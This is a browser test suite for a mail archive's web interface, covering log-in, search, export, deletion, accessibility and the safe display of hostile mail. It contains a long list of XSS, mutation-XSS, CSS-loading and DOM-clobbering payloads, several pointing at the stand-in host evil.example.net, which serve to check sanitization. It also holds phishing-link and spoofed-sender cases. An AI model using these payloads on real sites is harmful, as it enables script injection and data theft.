// SPDX-License-Identifier: GPL-3.0-or-later
// The page alone, before an archive of fixtures: node --test tests/browser. Whatever the page may not do (run or fetch what
// a mail brings along, break its own policy, leave the keyboard behind) fails here.
// @ts-check
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { HTML, mailId, startArchive } from "./archive.mjs";
import { AXE, openPage, startBrowser } from "./browser.mjs";

/** @type {import("playwright-core").Browser} */
let browser;
before(async () => {
	browser = await startBrowser();
});
after(() => browser.close());

/**
 * @param {string} at
 * @param {import("./archive.mjs").Options & {context?: import("playwright-core").BrowserContextOptions, harmless?: RegExp}} [options]
 * @param {(here: {page: import("playwright-core").Page, archive: Awaited<ReturnType<typeof startArchive>>, faults: string[]}) => Promise<void>} run
 */
async function visit(at, options, run) {
	const archive = await startArchive(options);
	const { context, page, faults } = await openPage(browser, options?.context);
	try {
		await page.goto(archive.url + at);
		await page.locator("#root > *").first().waitFor();
		await run({ page, archive, faults });
		assert.deepEqual(faults.filter((fault) => !options?.harmless?.test(fault)), [], "no error and no breach of the policy");
	} finally {
		await context.close();
		await archive.close();
	}
}

const axe = readFileSync(AXE, "utf8");
const LIST = "#/search?q=angebot";
const MAIL = `#/mail/${mailId(3)}?q=angebot`;
/** @param {import("playwright-core").Page} page */
const frameOf = (page) => page.frameLocator("iframe.sp-frame");

// --- log-in -----------------------------------------------------------------------------------------------------

test("a person logs in with name, password and one-time code", () =>
	visit("", { loggedIn: false }, async ({ page }) => {
		await page.getByLabel("Name or mail address").fill("otto");
		await page.getByLabel("Password", { exact: true }).fill("wrong");
		await page.keyboard.press("Enter");
		await page.getByText("Name or password is wrong.").waitFor();
		await page.getByLabel("Password", { exact: true }).fill("secret");
		await page.keyboard.press("Enter");
		await page.getByLabel("One-time code").fill("000000");
		await page.keyboard.press("Enter");
		await page.getByText("This code is wrong").waitFor();
		await page.getByLabel("One-time code").fill("123456");
		await page.keyboard.press("Enter");
		await page.getByRole("list", { name: "Mails found" }).waitFor();
	}));

test("somebody who tries too often is told how long to wait, and cannot go on before", () =>
	visit("", { loggedIn: false }, async ({ page }) => {
		await page.getByLabel("Name or mail address").fill("anna");
		await page.getByLabel("Password", { exact: true }).fill("slow");
		await page.keyboard.press("Enter");
		await page.getByText(/Try again in \d+ seconds/).waitFor();
		assert.ok(await page.getByRole("button", { name: "Log in" }).isDisabled());
	}));

test("a session that ends asks for the password over the page, and the page goes on where it was", () =>
	visit(LIST, {}, async ({ page, archive }) => {
		await page.getByRole("list", { name: "Mails found" }).waitFor();
		archive.expire();
		await page.getByRole("combobox").fill("rechnung");
		await page.keyboard.press("Enter");
		await page.getByRole("dialog", { name: "Your session has ended" }).waitFor();
		await page.getByLabel("Password", { exact: true }).fill("secret");
		await page.keyboard.press("Enter");
		await page.getByRole("dialog").waitFor({ state: "detached" });
		await page.locator("mark", { hasText: "Rechnung" }).first().waitFor();
		assert.match(page.url(), /q=rechnung/);
	}));

test("whatever changes something carries the session's token", () =>
	visit(MAIL, {}, async ({ page, archive }) => {
		await page.getByRole("button", { name: "Verify now" }).click();
		await page.getByText("Just verified").waitFor();
		const changes = archive.asked.filter((one) => one.method !== "GET");
		assert.ok(changes.length > 0 && changes.every((one) => one.token === "csrf-token-of-the-session"));
	}));

// --- search -----------------------------------------------------------------------------------------------------

test("the query stands in the address, its words are marked, and back leads to the one before", () =>
	visit(LIST, {}, async ({ page }) => {
		await page.locator("mark", { hasText: "Angebot" }).first().waitFor();
		await page.getByText("120 mails").waitFor();
		await page.getByRole("combobox").fill("rechn*");
		await page.keyboard.press("Enter");
		await page.locator("mark", { hasText: "Rechnung" }).first().waitFor();
		assert.match(page.url(), /#\/search\?q=rechn(%2A|\*)$/);
		await page.goBack();
		await page.locator("mark", { hasText: "Angebot" }).first().waitFor();
		assert.equal(await page.getByRole("combobox").inputValue(), "angebot");
	}));

test("no search word is sent to anybody but the server's API", () =>
	visit("#/search", {}, async ({ page }) => {
		/** @type {string[]} */
		const sent = [];
		page.on("request", (request) => sent.push(request.url()));
		await page.getByRole("combobox").fill("geheim");
		await page.keyboard.press("Enter");
		await page.getByText("120 mails").waitFor();
		assert.ok(sent.some((url) => url.includes("geheim")));
		assert.ok(sent.filter((url) => url.includes("geheim")).every((url) => new URL(url).pathname.startsWith("/archive/api/v1/mails")));
	}));

test("a mistake in a query is explained, with its place, in the reader's language", () =>
	visit("#/search?q=angebot+from:+anna", { context: { locale: "de-DE" } }, async ({ page }) => {
		await page.getByText("from: hat keinen Wert; schreiben Sie ihn direkt hinter den Doppelpunkt, wie in from:anna.").waitFor();
		assert.match(await page.locator(".sp-mistake pre").innerText(), /angebot from: anna\n +\^/);
	}));

test("nothing found and a storage that does not answer are said in words", async () => {
	await visit("#/search?q=nothing", {}, async ({ page }) => {
		await page.getByRole("heading", { name: "Nothing was found" }).waitFor();
	});
	await visit("#/search?q=broken", {}, async ({ page }) => {
		await page.getByRole("heading", { name: "The place does not answer now" }).waitFor();
		await page.getByText("medium 1 does not answer").waitFor();
		await page.getByRole("button", { name: "Try again" }).waitFor();
	});
});

test("the line completes fields and addresses by keyboard", () =>
	visit("#/search", {}, async ({ page }) => {
		const line = page.getByRole("combobox");
		await line.fill("fr");
		await page.getByRole("option", { name: /from:/ }).waitFor();
		await page.keyboard.press("ArrowDown");
		await page.keyboard.press("Enter");
		assert.equal(await line.inputValue(), "from:");
		await page.keyboard.type("anna");
		await page.getByRole("option", { name: /anna\.berger@example\.org/ }).waitFor();
		await page.keyboard.press("ArrowDown");
		await page.keyboard.press("Tab");
		assert.equal(await line.inputValue(), "from:anna.berger@example.org ");
		await page.keyboard.press("Enter");
		await page.waitForURL(/q=from%3Aanna\.berger%40example\.org/);
	}));

test("the form writes the line, and reads it", () =>
	visit("#/search?q=rechn*+from:anna+has:attachment", {}, async ({ page }) => {
		await page.getByRole("button", { name: "Refine" }).click();
		const form = page.getByRole("form", { name: "Refine the search" });
		assert.equal(await form.getByLabel("Words").inputValue(), "rechn*");
		assert.equal(await form.getByLabel("From").inputValue(), "anna");
		assert.ok(await form.getByLabel("With an attachment").isChecked());
		await form.getByLabel("Subject").fill("erste mahnung");
		await form.getByLabel("Spam").selectOption("without");
		assert.equal(await page.getByRole("combobox").first().inputValue(), 'rechn* from:anna subject:"erste mahnung" has:attachment -is:spam');
	}));

test("fifty at a time, and all hits are the server's business", () =>
	visit("#/search", { role: "auditor" }, async ({ page, archive }) => {
		const rows = page.locator(".sp-row");
		await rows.first().waitFor();
		assert.equal(await rows.count(), 50);
		await page.getByRole("button", { name: "Show 50 more" }).click();
		await rows.nth(99).waitFor();
		await page.getByLabel("Select all that are shown").check();
		await page.getByRole("button", { name: "Select all 120 hits" }).click();
		await page.getByRole("button", { name: "Download" }).click();
		await page.getByRole("menuitem", { name: /evidence/ }).click();
		await page.getByText("Export: begun").waitFor();
		const task = archive.asked.find((one) => one.method === "POST" && one.path === "/tasks");
		assert.deepEqual(task?.body, { kind: "export", format: "zip", evidence: true, query: "" });
		await page.getByText("Export: done").waitFor();
		await page.reload();
		await page.getByRole("button", { name: "Tasks" }).click();
		await page.getByRole("link", { name: /Download export\.zip/ }).waitFor();
	}));

test("long work is left while it runs, and found again", () =>
	visit("#/search", { role: "auditor" }, async ({ page }) => {
		await page.locator(".sp-row input").first().check();
		await page.getByRole("button", { name: "Download" }).click();
		await page.getByRole("menuitem", { name: /mbox/ }).click();
		await page.getByText("Export: begun").waitFor();
		await page.reload();
		await page.getByRole("button", { name: "Tasks" }).click();
		await page.getByRole("progressbar", { name: "Export" }).waitFor();
		await page.getByText("Export: done").waitFor();
		await page.locator(".sp-tasks").getByRole("link", { name: /Download export\.zip/ }).waitFor();
	}));

test("an auditor sees where a mail lies, however long its subject and narrow the page", async () => {
	for (const width of [360, 900, 1280])
		await visit("#/search", { role: "auditor", context: { viewport: { width, height: 740 } } }, async ({ page }) => {
			await page.locator(".sp-row-source").first().waitFor();
			const cut = await page.locator(".sp-row").evaluateAll((rows) => rows.filter((row) => {
				const place = row.querySelector(".sp-row-source")?.getBoundingClientRect();
				const room = row.querySelector(".sp-row-subject")?.getBoundingClientRect();
				return !place || !room || place.width === 0 || place.right > room.right + 1;
			}).length);
			assert.equal(cut, 0, `${width} pixels`);
		});
});

test("a deletion asks for a reason and the word before it is requested", () =>
	visit("#/search", {}, async ({ page, archive }) => {
		await page.locator(".sp-row input").nth(1).check();
		await page.locator(".sp-row input").nth(3).check();
		await page.getByRole("button", { name: "Request deletion" }).click();
		const dialog = page.getByRole("dialog");
		assert.ok(await dialog.getByRole("button", { name: "Request deletion" }).isDisabled());
		await dialog.getByLabel(/Reason/).fill("Bewerbung, Frist abgelaufen");
		await dialog.getByLabel(/Type delete/).fill("delete");
		await dialog.getByRole("button", { name: "Request deletion" }).click();
		await page.getByText("The deletion is requested.").waitFor();
		const request = archive.asked.find((one) => one.path === "/deletion-requests");
		assert.deepEqual(request?.body, { mails: [mailId(1), mailId(3)], reason: "Bewerbung, Frist abgelaufen" });
	}));

test("a mail is found, opened, left and selected by keyboard alone", () =>
	visit("#/search", {}, async ({ page }) => {
		await page.locator(".sp-row").first().waitFor();
		await page.keyboard.press("/");
		assert.equal(await page.evaluate(() => document.activeElement?.getAttribute("role")), "combobox");
		await page.keyboard.press("Escape");
		await page.keyboard.press("j");
		await page.keyboard.press("j");
		await page.keyboard.press("x");
		await page.getByText("1 selected").waitFor();
		await page.keyboard.press("Escape");
		await page.getByText("120 mails").waitFor();
		await page.keyboard.press("Enter");
		await page.waitForURL(new RegExp(mailId(1)));
		await page.getByRole("heading", { level: 1 }).waitFor();
		await page.keyboard.press("j");
		await page.waitForURL(new RegExp(mailId(2)));
		await page.getByRole("heading", { level: 1 }).waitFor();
		await page.keyboard.press("Escape");
		await page.waitForURL(/#\/search/);
		await page.keyboard.press("?");
		await page.getByRole("dialog", { name: "Keys" }).waitFor();
	}));

// --- reading ----------------------------------------------------------------------------------------------------

test("a mail is read with its pictures, and nothing of elsewhere is fetched until asked for", () =>
	visit(MAIL, { mail: { html: HTML } }, async ({ page }) => {
		/** @type {string[]} */
		const elsewhere = [];
		await page.route(/example\.net/, (route) => {
			elsewhere.push(route.request().url());
			return route.fulfill({ contentType: "image/png", body: "" });
		});
		await page.reload();
		await frameOf(page).locator("h1", { hasText: "Angebot" }).waitFor();
		await frameOf(page).locator("img[data-cid][src^='blob:']").waitFor();
		assert.equal(await frameOf(page).locator("img[data-cid]").evaluate((image) => /** @type {HTMLImageElement} */ (image).naturalWidth), 8);
		assert.deepEqual(elsewhere, []);
		await page.getByRole("button", { name: "Load them this once" }).click();
		await frameOf(page).locator("img[src^='https://tracker']").waitFor();
		await page.waitForLoadState("networkidle");
		assert.equal(elsewhere.length, 1);
	}));

test("on a telephone the sender's address stands on one line", () =>
	visit(`#/mail/${mailId(0)}`, { context: { viewport: { width: 360, height: 740 } } }, async ({ page }) => {
		const address = page.locator(".sp-letter-from .sp-quiet").first();
		await address.waitFor();
		const lines = await address.locator("bdi").evaluate((one) => one.getClientRects().length);
		assert.equal(lines, 1);
		assert.match(await page.locator(".sp-letter-from").innerText(), /^Anna Berger\s+<anna\.berger@example\.org>$/);
	}));

test("a link shows where it leads, and one that lies about it asks first", () =>
	visit(MAIL, {}, async ({ page }) => {
		const liar = frameOf(page).getByRole("link", { name: "https://kundenportal.muster.example" });
		await liar.hover();
		await page.getByText("Leads to https://phish.example.net/login").waitFor();
		assert.equal(await liar.getAttribute("rel"), "noopener noreferrer nofollow");
		await liar.click();
		await page.getByRole("dialog", { name: "This link leads elsewhere" }).waitFor();
		await page.getByRole("dialog").getByText("phish.example.net", { exact: true }).waitFor();
	}));

test("plain text, headers and source are there, and a note is kept", () =>
	visit(MAIL, {}, async ({ page, archive }) => {
		await page.getByRole("tab", { name: "Plain text" }).click();
		await page.locator(".sp-plain", { hasText: "Rufbereitschaft" }).waitFor();
		await page.getByRole("tab", { name: "Headers" }).click();
		await page.locator(".sp-headers").getByText("mx.example.org").waitFor();
		await page.getByRole("tab", { name: "Source" }).click();
		await page.getByText("=?utf-8?q?Muster?=").waitFor();
		await page.getByRole("textbox", { name: "Note" }).fill("Anwalt fragen");
		await page.getByRole("button", { name: "Save the note" }).click();
		await page.getByText("The note was saved.").waitFor();
		assert.equal(archive.asked.find((one) => one.method === "PUT")?.body.note, "Anwalt fragen");
	}));

// Everything that HTML, CSS, SVG and MathML offer to run or to fetch something.
const HOSTILE = [
	"<script>parent.hit('script')</script>", "<script src='https://evil.example.net/x.js'></script>", "<img src=x onerror=\"parent.hit('onerror')\">",
	"<img src='https://evil.example.net/img.png' srcset='https://evil.example.net/set.png 2x'>", "<svg onload=\"parent.hit('svg')\"><image href='https://evil.example.net/svg.png'/><script>parent.hit('svgscript')</script></svg>",
	"<svg><use href='https://evil.example.net/use.svg#x'/><animate attributeName=href values='javascript:parent.hit(1)'/></svg>", "<svg><style><img src=x onerror=parent.hit('mxss')></style></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=parent.hit(2)&gt;'>", "<math href='javascript:parent.hit(3)'>x</math>",
	"<noscript><p title='</noscript><img src=x onerror=parent.hit(4)>'>", "<iframe src='https://evil.example.net/frame'></iframe>", "<iframe srcdoc='<script>parent.parent.hit(5)</script>'></iframe>",
	"<object data='https://evil.example.net/object'></object>", "<embed src='https://evil.example.net/embed'>", "<link rel=stylesheet href='https://evil.example.net/l.css'>", "<link rel=prefetch href='https://evil.example.net/pre'>",
	"<link rel=dns-prefetch href='//evil.example.net'>", "<meta http-equiv=refresh content='0;url=https://evil.example.net/refresh'>", "<base href='https://evil.example.net/'>", "<img src='relative.png'>",
	"<form action='https://evil.example.net/form'><input name=password type=password><button autofocus onfocus=parent.hit(6)>Go</button></form>", "<video src='https://evil.example.net/v' poster='https://evil.example.net/poster' autoplay></video>",
	"<audio src='https://evil.example.net/a' autoplay></audio>", "<style>@import url('https://evil.example.net/import.css'); body { background: url(https://evil.example.net/bg.png) }</style>",
	"<style>@font-face { font-family: x; src: url(https://evil.example.net/font) } p { font-family: x }</style>", "<style>p::before { content: '</style><img src=x onerror=parent.hit(7)>' }</style>",
	"<style>p { background: image-set('https://evil.example.net/set2' 1x); list-style: url(https://evil.example.net/list); cursor: url(https://evil.example.net/cursor), auto }</style>",
	"<style>:root { --x: url(https://evil.example.net/var) } p { background: var(--x) }</style>", "<div style='background-image:url(https://evil.example.net/inline)'>x</div>", "<div style='background:u\\72l(https://evil.example.net/escaped)'>x</div>",
	"<table background='https://evil.example.net/table'><tr><td background='https://evil.example.net/td'>x</td></tr></table>", "<body background='https://evil.example.net/body' onload=parent.hit(8)>",
	"<div style='position:fixed;inset:0;z-index:9999;background:red'>Your session has ended</div>", "<a href='javascript:parent.hit(9)'>click</a>", "<a href='  java\nscript:parent.hit(10)'>click</a>", "<a href='data:text/html,<script>parent.hit(11)</script>'>click</a>",
	"<a href='vbscript:x'>click</a>", "<a href='//evil.example.net/ping' ping='https://evil.example.net/ping2'>click</a>", "<details open ontoggle=parent.hit(12)><summary>x</summary></details>", "<marquee onstart=parent.hit(13)>x</marquee>",
	"<input onfocus=parent.hit(14) autofocus>", "<template><img src=x onerror=parent.hit(15)></template>", "<img name=body><form name=documentElement><input name=attributes></form>", "<p id=cookie name=cookie>clobber</p>",
	"<img src='cid:../../../../session'>", "<img src=\"cid:%3Cimg onerror=parent.hit(16)%3E\">", "<style>@media screen { body { background: url('https://evil.example.net/media') } } @supports (display:grid) { p { background: url(https://evil.example.net/supports) } }</style>",
	"<style>p { & b { background: url(https://evil.example.net/nested) } }</style>", "<p style='behavior:url(#x);-moz-binding:url(https://evil.example.net/xbl)'>x</p>", "<picture><source srcset='https://evil.example.net/picture'><img></picture>",
	"<keygen autofocus onfocus=parent.hit(17)>", "<isindex action='https://evil.example.net/i'>", "<select autofocus onfocus=parent.hit(18)><option>x</select>", "<textarea autofocus onfocus=parent.hit(19)></textarea>",
	"<x onclick=parent.hit(20) style='animation:a' onanimationstart=parent.hit(21)>x</x>", "<!--[if IE]><script>parent.hit(22)</script><![endif]-->", "<xmp><p title='</xmp><img src=x onerror=parent.hit(23)>'></xmp>", "<plaintext><script>parent.hit(24)</script>",
];

// The browser says this of a document that is only parsed, to be made safe: it belongs to no window, and runs and loads nothing.
const PARSED = /^Executing inline event handler violates .*'script-src 'self''|^Setting the document's base URI /;

test("a hostile mail runs nothing, fetches nothing, and stays in its frame, each trick alone and all together", () =>
	visit("#/search", { harmless: PARSED }, async ({ page, archive }) => {
		await page.exposeFunction("hit", (/** @type {unknown} */ what) => hits.push(String(what)));
		/** @type {string[]} */
		const hits = [];
		/** @type {string[]} */
		const strangers = [];
		page.on("request", (request) => {
			if (!request.url().startsWith(archive.url) && !/^(data|blob|about):/.test(request.url())) strangers.push(request.url());
		});
		page.on("dialog", (dialog) => hits.push(dialog.message()));
		let html = "";
		await page.route("**/api/v1/mails/0f6c1a52*", async (route) => {
			const response = await route.fetch();
			await route.fulfill({ response, json: { ...(await response.json()), html } });
		});
		let n = 0;
		for (const trick of [...HOSTILE, HOSTILE.join("\n")]) {
			html = `<p>before</p>${trick}<p id="end">after</p>`;
			await page.goto(`${archive.url}#/mail/${mailId(n++ % 120)}?q=${n}`);
			const frame = frameOf(page);
			await page.locator("iframe.sp-frame").waitFor();
			await frame.locator("body", { hasText: "before" }).waitFor();
			for (const link of await frame.locator("a").all()) assert.doesNotMatch((await link.getAttribute("href")) ?? "", /script:|data:/i, trick);
			const left = await frame.locator("html").evaluate((root) => ({
				tags: root.querySelectorAll("script, svg, math, iframe, object, embed, form, input, link, base, video, audio, meta[http-equiv=refresh]").length,
				events: Array.from(root.querySelectorAll("*")).filter((one) => Array.from(one.attributes).some((a) => a.name.startsWith("on"))).length,
				fixed: Array.from(root.querySelectorAll("*")).filter((one) => /fixed|sticky|absolute/.test(getComputedStyle(one).position)).length,
			}));
			assert.deepEqual(left, { tags: 0, events: 0, fixed: 0 }, trick);
			// What is only forbidden to load would show here as a breach of the policy: nothing even tries.
			assert.deepEqual(hits, [], trick);
			assert.deepEqual(strangers, [], trick);
		}
	}));

test("names and addresses that pretend to be others are shown as what they are", () =>
	visit(MAIL, {
		mail: {
			subject: "Rechnung \u202Efdp.exe\u202C",
			fromMailbox: { name: "chef@example.org", address: "fremder@\u0430pple.example" },
			parts: [{ part: 2, type: "application/octet-stream", name: "rechnung\u202Efdp.exe", size: 10, shown: "no" }],
		},
	}, async ({ page }) => {
		await page.getByRole("heading", { level: 1, name: "Rechnung fdp.exe" }).waitFor();
		assert.doesNotMatch(await page.locator(".sp-letter-from").innerText(), /chef@example\.org/);
		await page.getByText("look-alike letters").first().waitFor();
		await page.getByText("rechnungfdp.exe").waitFor();
	}));

test("five thousand recipients, five hundred attachments and a megabyte of HTML are no trouble", () =>
	visit(MAIL, {
		mail: {
			recipients: { to: Array.from({ length: 5000 }, (_, i) => ({ name: `Person ${i}`, address: `p${i}@example.org` })), cc: [], bcc: [] },
			parts: Array.from({ length: 500 }, (_, i) => ({ part: i + 2, type: "text/plain", name: `file-${i}.txt`, size: 100, shown: /** @type {const} */ ("no") })),
			html: `<table>${"<tr><td>angebot</td><td style='color:red'>x</td></tr>".repeat(20_000)}</table>`,
		},
	}, async ({ page }) => {
		await page.getByText("and 4,996 more").waitFor();
		await page.getByRole("button", { name: "Show all 500" }).click();
		await page.getByText("file-499.txt").waitFor();
		await frameOf(page).locator("mark").first().waitFor();
	}));

// --- everybody --------------------------------------------------------------------------------------------------

for (const [name, at, options] of /** @type {const} */ ([
	["log-in", "", { loggedIn: false }], ["search", LIST, {}], ["a mistake", "#/search?q=from:+x", {}], ["reading", MAIL, { role: "auditor" }], ["account", "#/account", {}],
]))
	for (const scheme of /** @type {const} */ (["light", "dark"]))
		test(`axe finds nothing: ${name}, ${scheme}`, () =>
			visit(at, { ...options, context: { colorScheme: scheme } }, async ({ page }) => {
				await page.waitForLoadState("networkidle");
				if (name === "search") await page.locator(".sp-row input").first().check();
				await page.evaluate(axe); // a script element would be against the page's policy
				const found = await page.evaluate(async () => {
					const { violations } = await /** @type {any} */ (window).axe.run(document, { iframes: false });
					return violations.map((/** @type {any} */ one) => `${one.id}: ${one.nodes.map((/** @type {any} */ node) => node.html.slice(0, 160) + " " + node.any.map((/** @type {any} */ a) => a.message)).join("\n   ")}`);
				});
				assert.deepEqual(found, []);
			}));

test("at 360 pixels nothing sticks out, in either language", async () => {
	for (const locale of ["de-DE", "en-GB"])
		for (const at of ["#/search?q=angebot", MAIL, "#/account", "#/search?q=from:+x"])
			await visit(at, { role: "auditor", context: { locale, viewport: { width: 360, height: 740 } } }, async ({ page }) => {
				await page.waitForLoadState("networkidle");
				const wide = await page.evaluate(() => Array.from(document.querySelectorAll("#main *")).filter((one) => {
					const box = one.getBoundingClientRect();
					for (let up = one.parentElement; up && up.id !== "main"; up = up.parentElement)
						if (getComputedStyle(up).overflowX !== "visible") return false; // cut off there, or scrolled
					return box.width > 0 && box.right > innerWidth + 1 && !one.closest("pre, .sp-only-read, [role=tablist], .pf-v6-c-tabs");
				}).map((one) => one.className || one.tagName).slice(0, 5));
				assert.deepEqual(wide, [], `${locale} ${at}`);
			});
});

test("whoever searches nothing sees no search: menu and start follow the rights", () =>
	visit("", { role: "uploader" }, async ({ page, archive }) => {
		await page.getByRole("heading", { name: "My account" }).waitFor();
		await page.goto(`${archive.url}#/search`);
		await page.getByRole("heading", { name: "There is nothing here" }).waitFor();
		assert.ok(!archive.asked.some((one) => one.path.startsWith("/mails")));
	}));
